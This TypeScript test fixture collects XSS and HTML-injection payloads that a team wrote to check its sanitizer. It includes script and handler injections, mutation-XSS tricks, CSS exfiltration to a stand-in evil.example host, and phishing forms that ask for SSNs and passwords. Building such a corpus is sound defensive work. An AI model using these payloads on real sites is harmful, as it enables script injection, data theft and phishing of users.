// The project's own hostile-HTML corpus for the acceptance-language sanitizer, written by the
// team and grouped by the class of attack each entry tries. The sanitizer's unit tests
// (src/lib/server/sanitize/sanitize.spec.ts) and the browser test (tests/xss.e2e.ts) both read it.
// Add to it whenever a new trick turns up; each entry is [title, payload].

export type VectorClass =
	| 'script and event handlers'
	| 'URL schemes'
	| 'SVG and MathML'
	| 'mutation XSS'
	| 'namespace confusion'
	| 'CSS'
	| 'forms and buttons'
	| 'meta and base'
	| 'dangling markup'
	| 'tabnabbing'
	| 'DOM clobbering'
	| 'parser edge cases';

export interface HostileVector {
	class: VectorClass;
	title: string;
	payload: string;
}

const CORPUS: Record<VectorClass, [title: string, payload: string][]> = {
	'script and event handlers': [
		['plain script', '<script>alert(1)</script>'],
		['external script, upper case', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>'],
		['script with a slash for a space', '<script/src="https://evil.example/x.js"></script>'],
		['script split around a script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
		['comment spanning two scripts', '<script>/*</script><script>*/alert(1)</script>'],
		['module script', `<script type="module">import('https://evil.example/x.js')</script>`],
		['script between paragraphs', '<p>before</p><script>document.cookie</script><p>after</p>'],
		['img onerror', '<img src=x onerror=alert(1)>'],
		['img onerror with an entity', '<img src=x onerror="&#97;lert(1)">'],
		['onerror evaluating its own src', '<img src=x:alert(1) onerror=eval(src)>'],
		['body onload', '<body onload=alert(1)>'],
		['paragraph onclick', '<p onclick="alert(1)">click</p>'],
		['onmouseover', '<div onmouseover=alert(1)>hover</div>'],
		[
			'autofocus onfocus on a link',
			'<a href="https://example.com" onfocus=alert(1) autofocus>x</a>'
		],
		['details ontoggle', '<details open ontoggle=alert(1)><summary>s</summary></details>'],
		['video source onerror', '<video><source onerror=alert(1)></video>'],
		['audio onerror', '<audio src=x onerror=alert(1)>'],
		['input autofocus onfocus', '<input autofocus onfocus=alert(1)>'],
		['marquee onstart', '<marquee onstart=alert(1)>m</marquee>'],
		['handler after a slash', '<p/onclick=alert(1)>slash</p>'],
		['handler after a newline', '<p\nonclick=alert(1)>newline</p>'],
		['handler after a form feed', '<p\fonclick=alert(1)>form feed</p>'],
		['handler in capitals', '<p ONCLICK=alert(1)>upper</p>'],
		['pointer event', '<span onpointerenter=alert(1)>x</span>'],
		['animation event', '<p onanimationstart=alert(1) style=animation-name:spin>x</p>'],
		['quotes closing early', '<img """><script>alert(1)</script>">'],
		['unknown element with a handler', '<xss onafterscriptexecute=alert(1)><script>1</script>'],
		['iframe', '<iframe src="https://evil.example"></iframe>'],
		['iframe srcdoc', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
		['object', '<object data="https://evil.example/x.swf"></object>'],
		['embed', '<embed src="https://evil.example/x.swf">'],
		['applet', '<applet code="X.class"></applet>'],
		['frameset onload', '<frameset onload=alert(1)><frame src="https://evil.example"></frameset>'],
		['isindex image', '<isindex type=image src=1 onerror=alert(1)>'],
		['table background', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>']
	],

	'URL schemes': [
		['javascript:', '<a href="javascript:alert(1)">x</a>'],
		['mixed case', '<a href="JaVaScRiPt:alert(1)">x</a>'],
		['leading space', '<a href=" javascript:alert(1)">x</a>'],
		['tab inside', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
		['newline inside', '<a href="jav&#x0A;ascript:alert(1)">x</a>'],
		['carriage return inside', '<a href="jav&#x0D;ascript:alert(1)">x</a>'],
		['leading SOH', '<a href="\u0001javascript:alert(1)">x</a>'],
		['NUL inside', '<a href="java\u0000script:alert(1)">x</a>'],
		['line separator before the colon', '<a href="javascript\u2028:alert(1)">x</a>'],
		['paragraph separator leading', '<a href="\u2029javascript:alert(1)">x</a>'],
		['no-break space leading', '<a href="\u00a0javascript:alert(1)">x</a>'],
		[
			'decimal entities',
			'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'
		],
		[
			'zero-padded entities without semicolons',
			'<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>'
		],
		['named colon entity', '<a href="&#x6A;avascript&colon;alert(1)">x</a>'],
		['numeric colon entity', '<a href="javascript&#58;alert(1)">x</a>'],
		['javascript: with a comment', '<a href="javascript://https://example.com/%0aalert(1)">x</a>'],
		['vbscript:', '<a href="vbscript:msgbox(1)">x</a>'],
		[
			'data: HTML in base64',
			'<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'
		],
		['data: HTML in clear', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
		['data: SVG, capitals', `<a href="DATA:image/svg+xml,<svg onload=alert(1)>">x</a>`],
		['blob:', '<a href="blob:https://evil.example/0b1c">x</a>'],
		['file:', '<a href="file:///etc/passwd">x</a>'],
		['ftp:', '<a href="ftp://evil.example/">x</a>'],
		['intent:', '<a href="intent://evil#Intent;scheme=http;end">x</a>'],
		['office protocol handler', '<a href="ms-excel:ofe|u|https://evil.example/x.xls">x</a>'],
		['jar:', '<a href="jar:https://evil.example/x.jar!/">x</a>'],
		['relative path into the portal', '<a href="/rep/login">relative</a>'],
		['protocol-relative', '<a href="//evil.example/">protocol-relative</a>'],
		['dot segments', '<a href="../sign/sign">up</a>'],
		['form action query', '<a href="?/accept">action</a>'],
		['two hrefs, bad first', '<a href="javascript:alert(1)" href="https://example.com">dup</a>'],
		['two hrefs, bad second', '<a href="https://example.com" href="javascript:alert(1)">dup</a>'],
		[
			'xlink:href on a link',
			'<a href="https://example.com" xlink:href="javascript:alert(1)">x</a>'
		],
		['cite', '<blockquote cite="javascript:alert(1)">q</blockquote>'],
		['ping', '<a ping="https://evil.example/track" href="https://example.com">ping</a>'],
		['srcset', '<img srcset="https://evil.example/1x.png 1x, javascript:alert(1) 2x">'],
		['formaction', '<button formaction="javascript:alert(1)">x</button>']
	],

	'SVG and MathML': [
		['svg onload', '<svg onload=alert(1)>'],
		['script in svg', '<svg><script>alert(1)</script></svg>'],
		['svg script by href', '<svg><script href="data:,alert(1)"/></svg>'],
		[
			'svg link to javascript:',
			'<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>'
		],
		['animate onbegin', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'],
		['set href to javascript:', '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>'],
		[
			'animate href values',
			'<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">click</text></a></svg>'
		],
		[
			'use of a data: document',
			`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>`
		],
		[
			'iframe in foreignObject',
			'<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>'
		],
		['svg image onerror', '<svg><image href="x" onerror="alert(1)"/></svg>'],
		['svg style import', '<svg><style>@import url(https://evil.example/x.css);</style></svg>'],
		[
			'xml-events handler',
			'<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>'
		],
		['feImage javascript:', '<svg><feImage xlink:href="javascript:alert(1)"/></svg>'],
		['discard onbegin', '<svg><discard onbegin=alert(1)>'],
		[
			'filter reference',
			'<svg viewBox="0 0 10 10"><filter id="f"><feTurbulence/></filter><rect filter="url(#f)" width="10" height="10"/></svg>'
		],
		['img in svg desc', '<svg><desc><img src=x onerror=alert(1)></desc></svg>'],
		['paragraph in svg title', '<svg><title><p>in title</p></title></svg>'],
		['textPath href', '<svg><textPath href="javascript:alert(1)">t</textPath></svg>'],
		[
			'svg namespace declared',
			'<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><circle r="40"/></a></svg>'
		],
		[
			'animateTransform onend',
			'<svg><animateTransform onend=alert(1) attributeName=transform dur=0.1s/></svg>'
		],
		['mathml xlink:href', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
		['mathml href', '<math href="javascript:alert(1)">click</math>'],
		[
			'maction',
			'<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'
		],
		['mglyph style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
		[
			'annotation-xml as HTML',
			'<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>'
		],
		[
			'annotation-xml as XHTML',
			'<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>alert(1)</script></annotation-xml></semantics></math>'
		],
		['ordinary MathML', '<math><mrow><mi>x</mi><mo>+</mo><mn>1</mn></mrow></math>']
	],

	'mutation XSS': [
		['noscript attribute', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
		[
			'noscript style',
			'<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>'
		],
		['textarea comment', '<textarea><!--</textarea><img src=x onerror=alert(1)>-->'],
		['comment in an attribute', '<!--<img src="--><img src=x onerror=alert(1)//">'],
		['listing', '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>'],
		['xmp attribute', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'],
		['title', '<title><img src=x onerror=alert(1)></title>'],
		['noembed', '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'],
		['noframes', '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>'],
		['iframe text', '<iframe><img src=x onerror=alert(1)></iframe>'],
		['plaintext', '<plaintext><img src=x onerror=alert(1)>'],
		['template', '<template><img src=x onerror=alert(1)></template>'],
		[
			'template in select',
			'<select><template><style><img src=x onerror=alert(1)></style></template></select>'
		],
		[
			'nested forms with mglyph',
			'<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'
		],
		['svg closed by p', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
		[
			'foster-parented link',
			'<table><a title="x"><td><img src=x onerror=alert(1)></td></a></table>'
		],
		['adoption agency', '<a href="https://example.com/">x<table><td>y</a>z'],
		['misnested blocks', '<div><p>x<div>y</p>z</div>'],
		['misnested formatting', '<b><p>bold<i>italic</b>rest</i></p>'],
		['caption reopened', '<p><table><caption><p>in caption</table>after'],
		['iframe in option', '<option><iframe></select><img src=x onerror=alert(1)>'],
		[
			'style in option',
			'<select><option><style></option></select><img src=x onerror=alert(1)></style>'
		],
		['svg style element', '<svg><style><img src=x onerror=alert(1)></style></svg>'],
		[
			'escaped markup in an attribute',
			'<a title="&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">t</a>'
		],
		['backticks', '<p title="``onmouseover=alert(1)">backtick</p>'],
		['style attribute close', '<style><img src="</style><img src=x onerror=alert(1)//">'],
		['conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
		['CDATA in HTML', '<![CDATA[<img src=x onerror=alert(1)>]]>'],
		['processing instruction', '<?xml-stylesheet href="https://evil.example/x.xsl"?><p>pi</p>'],
		['nested headings', '<h1><h2>nested headings</h1></h2>']
	],

	'namespace confusion': [
		['p leaves svg', '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>'],
		[
			'mglyph svg mtext textarea',
			'<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">'
		],
		[
			'h1 mglyph svg style',
			'<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>'
		],
		[
			'style in foreignObject',
			'<svg><foreignobject><p><style><img src=x onerror=alert(1)></style></p></foreignobject></svg>'
		],
		[
			'fake element in option',
			`<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src='#' onerror='alert(1)'>">`
		],
		[
			'form closing inside math',
			'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">'
		],
		[
			'annotation-xml foreignobject',
			'<svg><annotation-xml><foreignobject><style><img src=x onerror=alert(1)>'
		],
		[
			'style in HTML annotation',
			'<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>'
		],
		['style in svg title', '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>'],
		[
			'svg in svg desc',
			'<svg><desc><svg><style><img src=x onerror=alert(1)></style></svg></desc></svg>'
		],
		['table in mi', '<math><mi><table><mglyph><style><img src=x onerror=alert(1)>'],
		['math in svg', '<svg><math><mi><style><img src=x onerror=alert(1)></style></mi></math></svg>'],
		[
			'svg xmlns on a div',
			'<div xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></div>'
		],
		[
			'xlink on an HTML element',
			'<p xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)">x</p>'
		],
		['font color leaves svg', '<svg><font color><img src=x onerror=alert(1)></font></svg>'],
		[
			'comment in mglyph style',
			'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">'
		],
		[
			'svg then math comment',
			'<svg></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">'
		],
		['is attribute in svg', '<svg><a is="custom" href="javascript:alert(1)">x</a></svg>'],
		['p in clipPath', '<svg><clipPath><p>break out</p></clipPath></svg>'],
		['style in math', '<math><style><img src=x onerror=alert(1)></style></math>'],
		['CDATA in svg', '<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>'],
		[
			'math svg math',
			'<math><mtext><svg><mtext><math><mi><style><img src=x onerror=alert(1)></style>'
		],
		[
			'svg in math in foreignObject',
			'<svg><foreignObject><math><mi><svg><style>x</style></svg></mi></math></foreignObject></svg>'
		],
		['empty math containers', '<math><mi></mi><mo></mo><mn></mn></math><p>after</p>']
	],

	CSS: [
		['overlay', '<p style="position:fixed;inset:0;background:white">overlay</p>'],
		['url(javascript:)', '<div style="background:url(javascript:alert(1))">x</div>'],
		['expression()', '<div style="width:expression(alert(1))">x</div>'],
		['behavior', '<div style="behavior:url(x.htc)">x</div>'],
		['-moz-binding', '<div style="-moz-binding:url(https://evil.example/x.xml#xss)">x</div>'],
		['style element hiding the page', '<style>body{display:none}</style>'],
		['style import', `<style>@import 'https://evil.example/x.css';</style>`],
		[
			'attribute-selector exfiltration',
			'<style>input[name=ssn][value^="1"]{background:url(https://evil.example/1)}</style>'
		],
		['stylesheet link', '<link rel="stylesheet" href="https://evil.example/x.css">'],
		['our own classes', '<p class="btn primary">looks like ours</p>'],
		[
			'fake alert',
			'<p class="notice error" role="alert">Your session has ended, enter your SSN below</p>'
		],
		['content url', '<div style="content:url(https://evil.example/track)">x</div>'],
		['font element', '<font face="x" size="7" color="red">big</font>'],
		['zero font size', '<p style="font-size:0">hidden clause</p>'],
		['transparent text', '<span style="color:transparent">hidden</span>'],
		['huge transform', '<div style="transform:scale(100)">x</div>'],
		['image-set', `<p style="background-image:image-set('https://evil.example/x' 1x)">x</p>`],
		['absolute table', '<table style="position:absolute;top:0"><tr><td>x</td></tr></table>'],
		['escaped expression', '<center style="x:expression\\28 alert(1)\\29">x</center>'],
		['animation with a handler', '<div style="animation:x 1s" onanimationend=alert(1)>x</div>'],
		['entity in a property name', '<p style="&#98;ackground:url(https://evil.example/a)">x</p>'],
		['font-face', '<style>@font-face{font-family:x;src:url(https://evil.example/font)}</style>'],
		['hidden attribute', '<div hidden>hidden text the signer cannot see</div>'],
		['right-to-left override', '<p dir="rtl">\u202ereversed</p>'],
		['svg style', '<svg><style>*{fill:red}</style></svg>']
	],

	'forms and buttons': [
		[
			'phishing form',
			'<form action="https://evil.example/steal"><input name="ssn"><button>Submit</button></form>'
		],
		['form with an SSN field', '<form id="f"><input name="ssn"></form>'],
		[
			'button of another form',
			'<button form="sign" formaction="https://evil.example/">Accept</button>'
		],
		[
			'submit input to javascript:',
			'<input type="submit" formaction="javascript:alert(1)" value="Sign">'
		],
		['hidden consent', '<input name="consent" type="hidden" value="yes">'],
		['image input', '<input type="image" src="x" onerror="alert(1)">'],
		['select', '<select name="q-1"><option value="1">x</option></select>'],
		['textarea', '<textarea name="reason">prefill</textarea>'],
		['keygen', '<keygen autofocus onfocus=alert(1)>'],
		[
			'popover',
			'<button popovertarget="x" popovertargetaction="show">x</button><div popover id="x">pop</div>'
		],
		[
			'command',
			'<button command="show-modal" commandfor="d">x</button><dialog id="d">dlg</dialog>'
		],
		[
			'fake SSN field',
			'<label for="ssn">Social Security Number</label><input id="ssn" name="ssn" autocomplete="off">'
		],
		['fieldset', '<fieldset><legend>Enter your SSN</legend><input name="ssn"></fieldset>'],
		['output', '<output name="x" onforminput=alert(1)>'],
		['isindex action', '<isindex action="javascript:alert(1)" type="image">'],
		['button in a form', '<form><button formaction="https://evil.example">x</button></form>'],
		['autofocus race', '<input autofocus onblur=alert(1)><input autofocus>'],
		['datalist', '<datalist id="d"><option value="x"></datalist><input list="d">'],
		[
			'form posting to our own action',
			'<form action="/sign/sign?/accept" method="post"><input name="confirm" value="yes"><button>OK</button></form>'
		],
		[
			'password prompt',
			'<input type="password" name="password" placeholder="Confirm your bank password">'
		],
		['dialog form', '<dialog open><form method="dialog"><button>Close</button></form></dialog>'],
		['button outside any form', '<button type="submit" name="confirm" value="yes">Decline</button>']
	],

	'meta and base': [
		['base href', '<base href="https://evil.example/">'],
		['base target', '<base target="_blank">'],
		['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
		[
			'meta refresh to javascript:',
			'<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'
		],
		['meta CSP', '<meta http-equiv="Content-Security-Policy" content="script-src *">'],
		['meta set-cookie', '<meta http-equiv="set-cookie" content="signing_session=x">'],
		['meta charset utf-7', '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
		['meta referrer', '<meta name="referrer" content="unsafe-url">'],
		['link import', '<link rel="import" href="https://evil.example/x.html">'],
		['link prefetch', '<link rel="prefetch" href="https://evil.example/">'],
		['link icon', '<link rel="icon" href="https://evil.example/favicon.ico">'],
		['link preload script', '<link rel="preload" as="script" href="https://evil.example/x.js">'],
		[
			'whole document with manifest',
			'<html manifest="https://evil.example/m"><head><title>x</title></head><body><p>doc</p></body></html>'
		],
		['base in head', '<head><base href="javascript:alert(1)//"></head>'],
		['body background', '<body background="javascript:alert(1)">'],
		['second body', '<body><body onload=alert(1)>'],
		['doctype', '<!DOCTYPE html><html><body><p>full document</p></body></html>'],
		['open graph meta', '<meta property="og:url" content="https://evil.example">'],
		['title', '<title>Sign here</title>'],
		['refresh in head', '<html><head><meta http-equiv="refresh" content="1"></head></html>'],
		['style in head', '<head><style>*{color:red}</style></head><p>x</p>']
	],

	'dangling markup': [
		['img src left open', `<img src='https://evil.example/?`],
		['link href left open', '<a href="https://evil.example/?x='],
		['single-quoted href left open', `<a href='https://evil.example/?`],
		['title left open', '<p title="unclosed'],
		['form left open', '<form action="https://evil.example/"><button>'],
		['textarea left open', '<textarea>'],
		['select left open', '<select><option>'],
		['table cell left open', '<table><tr><td>open cell'],
		['comment left open', '<!-- unclosed comment'],
		['style left open', '<style>'],
		['script left open', '<script>'],
		['noscript left open', '<noscript>'],
		['xmp left open', '<xmp>'],
		['plaintext', '<plaintext>'],
		['iframe name left open', `<iframe name='`],
		['base target left open', `<base target='`],
		['meta refresh left open', `<meta http-equiv="refresh" content='0;URL=https://evil.example/?`],
		['link left open', '<a href="https://example.com/">open link'],
		['formatting left open', '<b><i><u>unclosed formatting'],
		['list left open', '<ul><li>one<li>two'],
		['nested divs left open', '<div><div><div>'],
		['heading left open', '<h1>title'],
		['cite left open', '<blockquote cite="https://evil.example/?'],
		['button value left open', '<button value="'],
		['unquoted src', '<img src=https://evil.example/?'],
		['markup inside an attribute left open', '<div title="<p>x</p>'],
		['closing the page around it', '</div></section></main><p>closing tags of the page</p>'],
		['closing the document', '</body></html><p>after the end</p>']
	],

	tabnabbing: [
		['target _blank', '<a href="https://evil.example/" target="_blank">new tab</a>'],
		['rel opener', '<a href="https://evil.example/" target="_blank" rel="opener">opener</a>'],
		['target _top', '<a href="https://evil.example/" target="_top">top</a>'],
		['target _parent', '<a href="https://evil.example/" target="_parent">parent</a>'],
		['named window', '<a href="https://evil.example/" target="sign">named window</a>'],
		['noopener only', '<a href="https://evil.example/" rel="noopener">no noreferrer</a>'],
		['empty rel', '<a href="https://evil.example/" rel="">empty rel</a>'],
		[
			'noreferrer with opener',
			'<a href="https://evil.example/" target="_blank" rel="noreferrer opener">mixed</a>'
		],
		['plain http', '<a href="http://evil.example/" target="_blank">http</a>'],
		['capitals', '<a href="HTTPS://EVIL.EXAMPLE/" TARGET="_BLANK">upper</a>'],
		['area', '<map><area href="https://evil.example/" target="_blank"></map>'],
		[
			'form target',
			'<form target="_blank" action="https://evil.example/"><button>x</button></form>'
		],
		['mailto in a new tab', '<a href="mailto:a@example.com" target="_blank">mail</a>'],
		['fragment in a new tab', '<a href="#top" target="_blank">fragment</a>'],
		['tel with target _self', '<a href="tel:+15555550100" target="_self">tel</a>'],
		['referrerpolicy', '<a href="https://evil.example/" referrerpolicy="unsafe-url">referrer</a>'],
		['download', '<a href="https://evil.example/" download="terms.pdf">download</a>'],
		['leading space', '<a href=" https://evil.example/" target="_blank">leading space</a>'],
		['base target before a link', '<base target="_blank"><a href="https://evil.example/">base</a>'],
		['entity in target', '<a href="https://evil.example/" target="&#95;blank">entity</a>'],
		[
			'already safe',
			'<a href="https://evil.example/" target="_blank" rel="noopener noreferrer">safe</a>'
		]
	],

	'DOM clobbering': [
		['id location', '<p id="location" class="btn">clobber</p>'],
		['name getElementById', '<img name="getElementById">'],
		['form named body', '<form name="body"><input name="appendChild"></form>'],
		['id __proto__', '<a id="__proto__">x</a>'],
		['id and name', '<a id="x" name="y">x</a>'],
		['name cookie', '<span name="cookie">x</span>'],
		['id defaultView', '<a id="defaultView" href="https://example.com">x</a>'],
		['input named submit', '<input form="x" name="submit">'],
		['object named createElement', '<object name="createElement"></object>'],
		['embed named querySelector', '<embed name="querySelector">'],
		[
			'SvelteKit data attributes',
			'<p data-sveltekit-reload data-sveltekit-preload-data="hover">x</p>'
		],
		['aria and tabindex', '<a aria-hidden="true" title="t" tabindex="-1" accesskey="s">attrs</a>'],
		['is, slot and part', '<p is="x-foo" slot="s" part="p">x</p>'],
		[
			'two anchors of one name',
			'<a id="config"></a><a id="config" name="url" href="https://evil.example/">x</a>'
		],
		['iframe named like a global', '<iframe name="alert"></iframe>']
	],

	'parser edge cases': [
		['empty', ''],
		['whitespace only', '  \n\t '],
		['numbers only', '123'],
		['escaped script as text', '&lt;script&gt;alert(1)&lt;/script&gt;'],
		['ampersand', '<p>a &amp; b &lt; c</p>'],
		['lone less-than', '<p>1 < 2 and 3 > 2</p>'],
		['NUL in a tag name', '<scr\u0000ipt>alert(1)</scr\u0000ipt>'],
		['unicode tag lookalike', '<\uff53cript>alert(1)</\uff53cript>'],
		['deep nesting', '<div>'.repeat(300) + 'deep' + '</div>'.repeat(300)],
		[
			'many attributes',
			`<p ${Array.from({ length: 200 }, (_, i) => `a${i}="${i}"`).join(' ')}>x</p>`
		],
		['long text', `<p>${'lorem ipsum '.repeat(2000)}</p>`],
		['frameset document', '<frameset><frame src="https://evil.example"></frameset>'],
		['surrogate halves', '<p>\ud800 lone \udfff halves</p>'],
		['hand-written wrapper and script', '<font>kept</font><script>dropped()</script>']
	]
};

export const VECTOR_CLASSES = Object.keys(CORPUS) as VectorClass[];

export const HOSTILE_HTML: readonly HostileVector[] = VECTOR_CLASSES.flatMap((c) =>
	CORPUS[c].map(([title, payload]) => ({ class: c, title, payload }))
);
